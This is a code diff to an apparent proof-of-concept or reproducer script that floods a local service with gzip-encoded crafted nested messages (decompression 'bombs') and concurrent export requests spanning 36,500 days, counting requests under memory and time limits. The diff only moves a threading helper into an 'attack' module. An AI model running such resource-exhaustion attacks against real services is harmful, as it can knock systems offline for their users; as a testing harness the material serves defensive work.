@@ -8,10 +8,9 @@ import os
 import subprocess
 import sys
 import tempfile
-import threading
 import time
 
-from attack import MIB, TAP, Healthy, Wick, become_stranger, free_port, get, packed, post
+from attack import MIB, TAP, Healthy, Wick, at_once, become_stranger, free_port, get, packed, post
 from forge import message
 
 LIMIT, SECONDS = 64 * MIB, 25
@@ -88,14 +87,6 @@ def new_stacks(number):
     return packed(message(1, message(2, message(2, b""))) + message(2, b"".join(message(n, b"") for n in range(1, 8)) + strings))
 
 
-def at_once(*works):
-    threads = [threading.Thread(target=work, daemon=True) for work in works]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
-
-
 def send(port, ends):
     """What the other user does. Tells how many requests that were."""
     bombs, counted = bomb(), [0]
@@ -109,7 +100,7 @@ def send(port, ends):
         while time.monotonic() < ends:
             post(port, new_stacks(counted[0]), {"content-encoding": "gzip"}, timeout=5)
             counted[0] += 1
-    at_once(throw, throw, throw, throw, fill, fill)
+    at_once(6, lambda number: throw() if number < 4 else fill())
     print(counted[0])
 
 
@@ -123,7 +114,7 @@ def attack(port, page, seconds):
             get(page, "/api/v1/export?format=html&from=now-36500d", timeout=5)
             counted[0] += 1
     with subprocess.Popen([sys.executable, os.path.abspath(__file__), str(port), str(seconds)], stdout=subprocess.PIPE, text=True) as other:
-        at_once(ask, ask, ask, ask)
+        at_once(4, lambda _: ask())
         requests = int(other.communicate()[0])
     return requests, counted[0]
 
